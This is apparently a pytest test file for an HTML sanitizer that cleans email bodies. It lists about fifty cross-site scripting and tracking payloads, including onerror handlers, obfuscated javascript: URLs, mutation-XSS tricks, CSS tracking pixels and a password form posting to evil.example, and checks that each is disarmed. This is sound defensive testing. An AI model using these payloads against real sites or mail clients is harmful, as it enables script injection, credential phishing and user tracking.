"""What is left of HTML that others wrote: the words and the look, nothing that runs, loads or submits."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from hub.html import clean, remote_images

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="/settings/delete">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="https://evil.example" onclick="alert(1)" target="_self" rel="opener">x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example)}</style>",
    "<style class=x>*{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example/pixel)">x</p>',
    '<p style="background:u\\72l(https://evil.example/pixel)">x</p>',
    '<p style="background:/**/url(https://evil.example/pixel)">x</p>',
    "<p style=\"background-image:image-set('https://evil.example' 1x)\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="behavior:url(#x);-moz-binding:url(x)">x</p>',
    '<body onload=alert(1) background="https://evil.example/pixel">x',
    '<table background="https://evil.example/pixel"><tr><td background="https://evil.example">x</table>',
    '<video poster="https://evil.example"><source src="https://evil.example"></video>',
    '<img srcset="https://evil.example 1x">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<p id=getElementById name=cookie>x</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='https://ok.example' ping='https://evil.example'>x</a>",
]
ALLOWED = {"href", "src", "alt", "style", "title", "target", "rel", "align", "bgcolor", "color", "dir", "height",
           "lang", "valign", "width", "type", "span", "face", "size", "border", "value", "start", "cellpadding",
           "cellspacing", "colspan", "rowspan", "nowrap", "scope", "datetime"}  # fmt: skip


def elements(html: str) -> list[tuple[str | None, dict[str, str | None], str]]:
    """The order of attributes means nothing."""
    found = LexborHTMLParser(f"<div>{html}</div>").css("div *")
    return [(node.tag, node.attributes, node.text()) for node in found]


def is_harmless(html: str) -> bool:
    parsed = LexborHTMLParser(f"<div>{html}</div>")
    for node in parsed.css("div *"):
        attributes = node.attributes
        if node.tag in ("script", "style", "iframe", "form", "object", "embed", "meta", "base", "link", "svg", "math"):
            return False
        if not set(attributes) <= ALLOWED:
            return False
        if not re.match(r"(https?://|mailto:|tel:|$)", attributes.get("href") or ""):
            return False
        if not re.match(r"(data:image/(png|jpeg|jpg|gif|webp);base64,|/files/|$)", attributes.get("src") or ""):
            return False
        if re.search(r"url|expression|@|\\|position|behavior|binding", attributes.get("style") or "", re.IGNORECASE):
            return False
    return True


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attack_is_disarmed(attack: str) -> None:
    assert is_harmless(clean(attack, {}))


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = clean(attack, {})

    assert elements(clean(once, {})) == elements(once)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<b", ">", "'", '"', "<!--", "-->", "x", "</style>"]), max_size=6
    )
)
def test_attacks_put_together_are_disarmed(attacks: list[str]) -> None:
    assert is_harmless(clean("".join(attacks), {}))


@given(st.text(alphabet="<>/=\"' &;:#abhrefsonclikjvp\t\n\x00"))
def test_any_text_is_disarmed(text: str) -> None:
    assert is_harmless(clean(text, {}))


def test_look_and_words_stay() -> None:
    html = '<p style="color:red;margin:0 0 1em">Hello <b>you</b></p><ul><li>one</li></ul>'

    assert clean(html, {}) == '<p style="color:red;margin:0 0 1em">Hello <b>you</b></p><ul><li>one</li></ul>'


def test_link_opens_elsewhere_and_tells_nothing() -> None:
    [(_, attributes, words)] = elements(clean('<a href="https://shop.example/x">x</a>', {}))

    assert words == "x"
    assert attributes == {
        "href": "https://shop.example/x",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }


def test_picture_of_the_mail_is_served_from_its_own_address() -> None:
    html = '<img src="cid:Logo@1" alt="logo"><img src="cid:unknown">'

    assert elements(clean(html, {"<logo@1>": "/files/7"})) == [
        ("img", {"src": "/files/7", "alt": "logo"}, ""),
        ("img", {}, ""),
    ]


def test_remote_picture_is_dropped_and_counted() -> None:
    html = '<img src="https://track.example/1.gif"><img src="//track.example/2.gif"><img src="cid:x">'

    assert "track.example" not in clean(html, {})
    assert remote_images(html) == 2


def test_remote_picture_is_shown_on_demand() -> None:
    assert 'src="https://shop.example/1.png"' in clean('<img src="https://shop.example/1.png">', {}, remote=True)


def test_embedded_picture_stays_unless_huge() -> None:
    small = '<img src="data:image/png;base64,iVBORw0KGgo=">'

    assert clean(small, {}) == small
    assert clean(f'<img src="data:image/png;base64,{"A" * 600_000}">', {}) == "<img>"


@pytest.mark.timeout(10)
def test_words_of_absurdly_nested_mail_are_kept() -> None:
    assert "found me" in clean("<div>" * 200_000 + "found me", {})
